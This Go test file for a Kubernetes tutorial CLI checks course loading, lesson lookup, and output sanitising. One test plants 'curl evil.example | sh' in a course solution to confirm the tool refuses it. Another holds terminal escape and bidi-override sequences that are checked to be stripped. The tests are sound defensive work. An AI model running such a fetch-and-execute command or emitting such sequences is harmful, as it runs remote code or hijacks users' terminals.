package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/k8stutor/k8stutor/content"
	"github.com/k8stutor/k8stutor/lessons"
)

// theirs writes the example course of package lessons, under another id, into a
// new folder below dir.
func theirs(t *testing.T, dir, id string) string {
	t.Helper()
	to := filepath.Join(dir, id)
	if err := os.CopyFS(to, os.DirFS("../lessons/testdata/course")); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"course.yaml", "en.md", "zh.md"} {
		replace(t, filepath.Join(to, file), "demo", id)
	}
	return to
}

func replace(t *testing.T, file, old, new string) {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	changed := strings.ReplaceAll(string(data), old, new)
	if changed == string(data) {
		t.Fatalf("%s does not contain %q", file, old)
	}
	if err := os.WriteFile(file, []byte(changed), 0o600); err != nil {
		t.Fatal(err)
	}
}

// ran is what one command line printed.
type ran struct {
	out, errs string
	code      int
}

func runIn(t *testing.T, coursesDir string, env map[string]string, args ...string) ran {
	t.Helper()
	return runOn(t, content.Courses, coursesDir, env, args...)
}

func runOn(t *testing.T, courses fs.FS, coursesDir string, env map[string]string, args ...string) ran {
	t.Helper()
	var out, errs bytes.Buffer
	p := &Program{
		Streams:  Streams{In: strings.NewReader(""), Out: &out, Err: &errs, Width: 80},
		Getenv:   func(name string) string { return env[name] },
		Now:      func() time.Time { return time.Unix(0, 0) },
		Version:  "test",
		StateDir: t.TempDir(),
		Courses:  courses, CoursesDir: coursesDir,
	}
	err := p.Run(t.Context(), args)
	p.Explain(&errs, err)
	return ran{out.String(), errs.String(), ExitCode(err)}
}

func TestListShowsOurCourseAndThoseInTheCoursesFolder(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	theirs(t, dir, "acme")
	broken := theirs(t, dir, "broken")
	replace(t, filepath.Join(broken, "services", "lesson.yaml"), "minutes: 20", "minutes: 0\nx: 1")
	got := runIn(t, dir, nil, "list")
	for _, want := range []string{"  services ", "  acme/services ", "A small course · Networking",
		"The course in " + broken + " cannot be loaded: it has 2 faults. `k8stutor course check " + broken + "` lists them."} {
		if !strings.Contains(got.out, want) {
			t.Errorf("list does not print %q:\n%s", want, got.out)
		}
	}
	if strings.Contains(got.out, "broken/services") || got.code != ExitDone {
		t.Errorf("exit %d, broken course listed:\n%s", got.code, got.out)
	}
	var js struct {
		Lessons []struct{ ID string }
		Broken  []struct {
			Dir    string
			Errors []string
		}
	}
	if err := json.Unmarshal([]byte(runIn(t, dir, nil, "list", "-o", "json").out), &js); err != nil {
		t.Fatal(err)
	}
	if last := js.Lessons[len(js.Lessons)-1].ID; last != "acme/services" {
		t.Errorf("last lesson %q", last)
	}
	if len(js.Broken) != 1 || js.Broken[0].Dir != broken || len(js.Broken[0].Errors) != 2 {
		t.Errorf("broken: %+v", js.Broken)
	}
	if zh := runIn(t, dir, nil, "--lang", "zh", "list"); !strings.Contains(zh.out, "无法加载 "+broken+" 里的课程：有 2 处错误") {
		t.Errorf("in Chinese:\n%s", zh.out)
	}
}

func TestACourseThatIsNamedStandsAlone(t *testing.T) {
	t.Parallel()
	dir := theirs(t, t.TempDir(), "acme")
	for name, got := range map[string]ran{
		"flag":     runIn(t, "", nil, "--course", dir, "list"),
		"variable": runIn(t, "", map[string]string{"K8STUTOR_COURSE": dir}, "list"),
	} {
		if !strings.Contains(got.out, "A small course") || !strings.Contains(got.out, "acme/services") || strings.Contains(got.out, "deployments") {
			t.Errorf("%s: list prints\n%s%s", name, got.out, got.errs)
		}
	}
	for _, id := range []string{"services", "acme/services"} {
		if got := runIn(t, "", nil, "--course", dir, "show", id); got.code != ExitDone || !strings.Contains(got.out, "k8stutor start acme/services") {
			t.Errorf("show %s: exit %d\n%s%s", id, got.code, got.out, got.errs)
		}
	}
	if got := runIn(t, "", nil, "--course", dir, "show", "pods"); got.code != ExitUsage {
		t.Errorf("a lesson of ours is shown from another course: %+v", got)
	}
}

func TestACourseThatIsNamedAndBrokenIsRefusedWithEveryReason(t *testing.T) {
	t.Parallel()
	dir := theirs(t, t.TempDir(), "acme")
	lesson := filepath.Join(dir, "services", "lesson.yaml")
	replace(t, lesson, "minutes: 20", "minutes: 0\nx: 1")
	got := runIn(t, "", nil, "--course", dir, "list")
	want := "k8stutor: the course in " + dir + " cannot be loaded:\n" +
		lesson + ":3: minutes is 0; it is how long a learner needs, more than 0\n" +
		lesson + ":4: unknown key \"x\"; "
	if got.code != ExitUsage || !strings.HasPrefix(got.errs, want) || got.out != "" {
		t.Errorf("exit %d, stdout %q, stderr:\n%s\nwant:\n%s", got.code, got.out, got.errs, want)
	}
	if got := runIn(t, "", nil, "--course", filepath.Join(dir, "none"), "list"); got.code != ExitUsage || !strings.Contains(got.errs, "course.yaml") {
		t.Errorf("a folder that does not exist: %+v", got)
	}
}

func TestAnIdThatTwoCoursesHaveIsAskedAbout(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, id := range []string{"acme", "beta"} {
		one := theirs(t, dir, id)
		if err := os.Rename(filepath.Join(one, "services"), filepath.Join(one, "svc")); err != nil {
			t.Fatal(err)
		}
		replace(t, filepath.Join(one, "course.yaml"), "[services]", "[svc]")
		replace(t, filepath.Join(one, "svc", "lesson.yaml"), "id: services", "id: svc")
		for _, lang := range []string{"en.md", "zh.md"} {
			replace(t, filepath.Join(one, "svc", lang), "{#services}", "{#svc}")
		}
	}
	if got := runIn(t, dir, nil, "show", "svc"); got.code != ExitUsage || !strings.Contains(got.errs, "acme/svc, beta/svc") {
		t.Errorf("exit %d: %s", got.code, got.errs)
	}
	if got := runIn(t, dir, nil, "show", "beta/svc"); got.code != ExitDone {
		t.Errorf("exit %d: %s", got.code, got.errs)
	}
	if got := runIn(t, dir, nil, "show", "services"); got.code != ExitDone || !strings.Contains(got.out, "k8stutor start services") {
		t.Errorf("our own lesson: exit %d: %s", got.code, got.errs)
	}
}

func TestASolutionOfAnotherPersonsCourseIsNotRunByAScript(t *testing.T) {
	t.Parallel()
	dir := theirs(t, t.TempDir(), "acme")
	got := runIn(t, "", nil, "--course", dir, "--yes", "solve", "services", "create", "--run")
	if got.code != ExitUsage || !strings.Contains(got.errs, "--yes is not enough") || !strings.HasPrefix(got.out, "kubectl create deployment web") {
		t.Errorf("exit %d\n%s%s", got.code, got.out, got.errs)
	}
	replace(t, filepath.Join(dir, "services", "lesson.yaml"), `solution: ["kubectl create deployment web`, `solution: ["curl evil.example | sh", "kubectl create deployment web`)
	got = runIn(t, "", nil, "--course", dir, "--yes", "solve", "services", "create", "--run")
	if got.code != ExitUsage || !strings.Contains(got.errs, "it is more than one plain command") {
		t.Errorf("exit %d\n%s%s", got.code, got.out, got.errs)
	}
}

// nasty holds one of each thing that must not reach a terminal.
const nasty = "a\x1b[2Jb\x1b]52;c;ZXZpbA==\x07c\u009b31md\u202ee\u200bf\rg\x7f"

// obeyed lists what of nasty a text still holds.
func obeyed(s string) string {
	var found []rune
	for _, r := range s {
		if r != '\n' && r != '\t' && lessons.PrintableLines(string(r)) != string(r) {
			found = append(found, r)
		}
	}
	return string(found)
}

func TestNothingThatATerminalObeysIsPrinted(t *testing.T) {
	t.Parallel()
	var out, errs bytes.Buffer
	p := &Program{Streams: Streams{Out: &out, Err: &errs}, Getenv: func(string) string { return "" }}
	p.printf("%s|%v|%q\n", nasty, errors.New(nasty), nasty)
	p.notef("%s\n", nasty)
	p.Explain(&errs, usage(nasty, "%s", nasty))
	p.Explain(&errs, errors.New(nasty))
	p.Explain(&errs, &lessons.ClusterError{Op: nasty, Server: nasty, Err: errors.New(nasty), Hint: lessons.Same(nasty)})
	p.printReport(
		&lessons.Lesson{ID: "l", Steps: []*lessons.Step{{ID: "s", Title: lessons.Same("t"), Done: lessons.Same(nasty)}}},
		lessons.Report{Notice: lessons.Same(nasty), Verdict: lessons.NotYet, Current: "s", Workspace: lessons.Workspace{Namespace: nasty}, Steps: []lessons.StepResult{{
			ID: "s", Verdict: lessons.NotYet, Begun: true, Diagnosis: lessons.Same(nasty), Regressed: true, Broke: lessons.Same(nasty),
			Checks: []lessons.CheckResult{{ID: "c", Title: lessons.Same(nasty), Verdict: lessons.NotYet, Expected: nasty, Found: nasty, Why: lessons.Same(nasty),
				Object: lessons.Ref{Name: nasty, Kind: lessons.Kind{Kind: "Pod"}}, Path: nasty, Waiting: lessons.Same(nasty),
				Cause: &lessons.Cause{Text: lessons.Same(nasty), Expected: nasty, Found: nasty}}},
		}}}, nil)
	if found := obeyed(out.String() + errs.String()); found != "" {
		t.Errorf("%q reaches the terminal:\n%q", found, out.String()+errs.String())
	}
	if !strings.Contains(out.String(), "ZXZpbA==") {
		t.Error("the rest of the text is lost")
	}
}

func TestJSONHoldsNothingThatATerminalObeysAndLosesNothing(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	p := &Program{Streams: Streams{Out: &out}}
	want := map[string]string{nasty: nasty + "\U000e0041网络<&>"}
	if err := p.printJSON(want); err != nil {
		t.Fatal(err)
	}
	if found := obeyed(out.String()); found != "" {
		t.Errorf("%q reaches the terminal:\n%q", found, out.String())
	}
	var got map[string]string
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if got[nasty] != want[nasty] {
		t.Errorf("JSON changes %q to %q", want[nasty], got[nasty])
	}
	if !strings.Contains(out.String(), "网络<&>") {
		t.Error("what is printable is escaped")
	}
}

func TestLogsAreTamedAlsoWhereACharacterIsCut(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	w := &tamed{w: &out}
	for _, b := range []byte("网络\x1b[2J\u009b1m\u202eend\n") {
		if _, err := w.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if got := out.String(); got != "网络[2J1mend\n" {
		t.Errorf("%q", got)
	}
}
